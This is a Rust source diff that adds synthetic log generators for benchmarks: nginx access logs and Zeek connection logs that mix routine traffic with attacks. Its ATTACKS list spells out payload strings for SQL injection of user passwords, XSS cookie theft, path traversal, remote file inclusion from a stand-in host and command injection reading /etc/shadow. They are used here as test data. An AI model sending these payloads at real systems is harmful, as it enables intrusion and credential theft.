@@ -2,6 +2,9 @@
 //! routine sshd/PAM/cron/sudo traffic, about 15 % attack lines (failed passwords,
 //! invalid users, pre-auth probes) from a few hundred addresses.
 
+// Each bench uses some of the generators.
+#![allow(dead_code)]
+
 use std::io::Write;
 
 /// xorshift64*: deterministic and dependency-free.
@@ -89,4 +92,102 @@ pub fn generate(out: &mut impl Write, lines: u64, seed: u64) -> std::io::Result<
         }
     }
     Ok(attack)
+}
+
+const PAGES: [&str; 10] = [
+    "/",
+    "/index.html",
+    "/products",
+    "/products/42",
+    "/cart",
+    "/search",
+    "/static/app.js",
+    "/static/style.css",
+    "/images/logo.png",
+    "/api/v1/items",
+];
+const AGENTS: [&str; 4] = [
+    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
+    "curl/8.5.0",
+];
+const ATTACKS: [&str; 8] = [
+    "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
+    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+    "/download?file=../../../../etc/passwd",
+    "/index.php?page=http://203.0.113.250/shell.txt",
+    "/cgi-bin/ping?host=127.0.0.1;cat%20/etc/shadow",
+    "/wp-login.php",
+    "/.env",
+    "/phpmyadmin/index.php",
+];
+
+/// Writes `lines` nginx combined-format lines, about 5 % attack requests (SQL injection,
+/// XSS, traversal, file inclusion, command injection, scanner probes and 404s) from a
+/// few hundred addresses; returns how many are attacks.
+pub fn generate_web(out: &mut impl Write, lines: u64, seed: u64) -> std::io::Result<u64> {
+    let mut rng = Rng::new(seed);
+    let mut attack = 0;
+    for n in 0..lines {
+        let secs = n / 50;
+        let (day, rem) = (1 + secs / 86_400, secs % 86_400);
+        let ts = format!("{:02}/Mar/2026:{:02}:{:02}:{:02} +0000", day.min(28), rem / 3600, rem % 3600 / 60, rem % 60);
+        if rng.below(100) < 5 {
+            attack += 1;
+            let ip = format!("203.0.{}.{}", rng.below(2), 1 + rng.below(200));
+            let path = ATTACKS[rng.below(ATTACKS.len() as u64) as usize];
+            let ua = if rng.below(4) == 0 { "sqlmap/1.8.4#stable (https://sqlmap.org)" } else { AGENTS[0] };
+            writeln!(out, "{ip} - - [{ts}] \"GET {path} HTTP/1.1\" 404 153 \"-\" \"{ua}\"")?;
+        } else {
+            let ip = format!("198.51.{}.{}", rng.below(100), 1 + rng.below(250));
+            let path = PAGES[rng.below(PAGES.len() as u64) as usize];
+            let status = [200, 200, 200, 304, 200, 301][rng.below(6) as usize];
+            let ua = AGENTS[rng.below(AGENTS.len() as u64) as usize];
+            let bytes = 200 + rng.below(50_000);
+            writeln!(
+                out,
+                "{ip} - - [{ts}] \"GET {path} HTTP/1.1\" {status} {bytes} \"https://shop.example/\" \"{ua}\""
+            )?;
+        }
+    }
+    Ok(attack)
+}
+
+/// Writes a Zeek `conn` log of `lines` records: web and DNS traffic of 2,000 internal
+/// hosts, with a few port scanners and a beaconing implant mixed in.
+pub fn generate_conn(out: &mut impl Write, lines: u64, seed: u64) -> std::io::Result<()> {
+    let mut rng = Rng::new(seed);
+    writeln!(out, "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn")?;
+    writeln!(
+        out,
+        "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\torig_pkts\torig_ip_bytes\tresp_pkts\tresp_ip_bytes\ttunnel_parents"
+    )?;
+    let t0 = 1_772_409_600.0;
+    for n in 0..lines {
+        let ts = t0 + n as f64 * 0.01;
+        let uid = rng.next() & 0xffff_ffff_ffff;
+        let roll = rng.below(1000);
+        let (src, dst, port, proto, state, ob, rb) = if roll < 5 {
+            // Scanners: refused probes of many ports and hosts.
+            let s = format!("203.0.113.{}", 1 + rng.below(5));
+            (s, format!("10.1.{}.{}", rng.below(4), 1 + rng.below(250)), 1 + rng.below(10_000), "tcp", "REJ", 0, 0)
+        } else if roll < 6 {
+            ("10.9.9.9".to_string(), "198.51.100.99".to_string(), 8443, "tcp", "SF", 512, 128)
+        } else {
+            let src = format!("10.0.{}.{}", rng.below(8), 1 + rng.below(250));
+            if rng.below(3) == 0 {
+                (src, "10.0.0.2".to_string(), 53, "udp", "SF", 40 + rng.below(30), 80 + rng.below(200))
+            } else {
+                let dst = format!("198.51.{}.{}", rng.below(200), 1 + rng.below(250));
+                (src, dst, 443, "tcp", "SF", 300 + rng.below(5000), 1000 + rng.below(200_000))
+            }
+        };
+        writeln!(
+            out,
+            "{ts:.6}\tC{uid:012x}\t{src}\t{}\t{dst}\t{port}\t{proto}\t-\t0.5\t{ob}\t{rb}\t{state}\t-\t-\t0\tShADadFf\t5\t500\t5\t500\t-",
+            30_000 + rng.below(30_000)
+        )?;
+    }
+    Ok(())
 }
